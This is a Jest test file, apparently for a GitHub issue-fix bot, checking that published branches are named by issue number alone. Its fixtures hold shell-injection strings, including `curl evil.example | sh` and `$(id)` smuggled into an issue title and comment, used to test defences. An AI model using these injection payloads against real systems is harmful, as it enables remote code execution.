// What comes of words that are a line of a shell, once a fix of them is published.
import { expect, it } from '@jest/globals';
import type { Event } from '../../src/ports/event.js';
import { gate } from '../../src/runs/gate.js';
import { runPublish } from '../../src/runs/publish.js';
import { RUN_ID } from '../../src/runs/record.js';
import { writeResult } from '../../src/runs/work-result.js';
import { digestOfBytes, writeArtifact } from '../../src/verify/artifact.js';
import type { FixOrder } from '../../src/workflows/fix/gate.js';
import { at, openPullShop, REPO } from '../adapters/github/pull-shop.js';
import { servicesOn } from '../build/phases.js';
import { failed, passed, proof, step } from '../verify/proofs.js';

const TITLE = `zzz";echo\${IFS}"hello";# $(id)`;
const WORDS = `/crew fix "; curl evil.example | sh # \${IFS} $(id)`;
const TEXT = 'diff --git a/a.js b/a.js\n--- a/a.js\n+++ b/a.js\n@@ -1 +1 @@\n-a\n+b\n';
const bytesOf = (text: string) => Buffer.from(text);

it('is named by the number of its issue alone, whatever the issue is called and the command says', async () => {
  const environment = await openPullShop({ files: { 'a.js': 'a\n' }, issues: [{ title: TITLE }] });
  const issue = environment.embedded.repository(REPO).issues[0]?.number ?? 0;
  const base = await environment.tip('main');
  // The tree that the change makes, as GitHub calls it.
  const probe = await environment.push('probe', { 'a.js': 'b\n' });
  const tree = (await environment.as('maya').git.getCommit({ ...at, commit_sha: probe })).data.tree.sha;
  const id = (await environment.as('maya').issues.createComment({ ...at, issue_number: issue, body: WORDS })).data.id;
  const event: Event = {
    ...{ kind: 'comment', key: `thread-${id}`, actor: { login: 'maya', id: 7, bot: false }, at: { repo: REPO, issue } },
    seen: { at: '2026-11-18T12:00:00Z', title: TITLE, body: '' },
    comment: { id, where: 'thread', body: `${WORDS} in a.js` },
  };
  const services = servicesOn({ github: environment.github(), repo: REPO });
  const [handled] = await gate(event, services);
  const { run = '', proceed } = handled ?? {};
  const subject = `issue-${issue}`;
  expect(run).toMatch(RUN_ID);
  expect(proceed).toEqual({ run, subject, group: `crew-${subject}`, ref: 'main', against: '' });
  const order = (await services.store.read(subject)).runs[0]?.order as FixOrder;
  expect(order.target).toMatchObject({ branch: `crew/${subject}`, base: 'main' });
  const diff = { base, sha256: digestOfBytes(bytesOf(TEXT)), files: ['a.js'], text: TEXT };
  const spent = { usd: 0, tokens: { in: 0, out: 0, cacheRead: 0, cacheWrite: 0 } };
  const outcome = { name: 'done', says: 'Done.', result: { shown: true, fixed: ['sums'] } } as const;
  const result = bytesOf(writeResult(run, { outcome, diff, spent }));
  const verified = proof({ base: [step([failed('sums')])], head: [step([passed('sums')])] });
  const document = writeArtifact({ ...verified, run, change: { sha256: diff.sha256, tree } });
  const { record } = await runPublish(
    {
      ...{ subject, run, workOutput: { bytes: result, digest: digestOfBytes(result), journal: null } },
      jobs: {
        work: 'success',
        verify: { result: 'success', document, digest: digestOfBytes(document) },
        ...{ url: `https://github.test/${REPO}/actions/runs/77`, actions: { id: 77, attempt: 1 } },
      },
      filesOf: async () => [{ path: 'a.js', mode: '100644', bytes: bytesOf('b\n') }],
    },
    services,
  );
  expect(record.end).toMatchObject({ outcome: 'done', result: { branch: `crew/${subject}` } });
  const { data: branches } = await environment.as('maya').repos.listBranches(at);
  expect(branches.map(({ name }) => name).sort()).toEqual([`crew/${subject}`, 'main', 'probe']);
  const { data: pulls } = await environment.as('maya').pulls.list(at);
  expect(pulls).toMatchObject([{ head: { ref: `crew/${subject}` }, base: { ref: 'main' } }]);
});
